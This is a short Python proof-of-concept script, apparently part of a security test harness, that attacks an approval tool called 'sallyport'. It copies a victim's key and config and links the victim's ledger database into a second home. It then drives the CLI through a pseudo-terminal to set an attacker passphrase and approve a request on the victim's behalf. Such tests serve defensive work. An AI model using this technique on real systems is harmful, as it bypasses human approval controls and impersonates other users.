# Makes a second home that shares the victim's store, chooses a passphrase there and answers a question of the victim's.
# Usage: self_approve.py ID. The harness fills in what stands between two @.
import os, pty, re, select, shutil, sys

HOME, EVIL, NODE, ENTRY, LINK = '@HOME@', '@EVIL@', '@NODE@', '@ENTRY@', '@LINK@'
PHRASE = b'attacker phrase'


def second_home():
    shutil.rmtree(EVIL, ignore_errors=True)
    os.makedirs(EVIL + '/keys', 0o700)
    os.chmod(EVIL, 0o700)
    for name in ['keys/ledger.key', 'sallyport.toml']:
        if os.path.exists(HOME + '/' + name):
            shutil.copy2(HOME + '/' + name, EVIL + '/' + name)
    for name in ['ledger.db', 'ledger.db-wal', 'ledger.db-shm']:
        if os.path.exists(HOME + '/' + name):
            (os.link if LINK == 'hard' else os.symlink)(HOME + '/' + name, EVIL + '/' + name)


def at_terminal(*words):
    pid, terminal = pty.fork()
    if pid == 0:
        os.environ['SALLYPORT_HOME'] = EVIL
        os.execv(NODE, [NODE, ENTRY, *words])
    shown = b''
    while select.select([terminal], [], [], 20)[0]:
        try:
            text = os.read(terminal, 65536)
        except OSError:
            break
        if not text:
            break
        shown += text
        os.write(1, text)
        if re.search(rb'\[y/n\] $', shown):
            os.write(terminal, b'y')
        elif re.search(rb'q quit: $', shown):
            os.write(terminal, b'\r')
        elif re.search(rb'(?:assphrase|code|Once more)[^\n]*: $', shown):
            os.write(terminal, PHRASE + b'\r')
        else:
            continue
        shown = b''
    os.close(terminal)
    os.waitpid(pid, 0)


second_home()
at_terminal('passphrase')
at_terminal('approve', sys.argv[1])
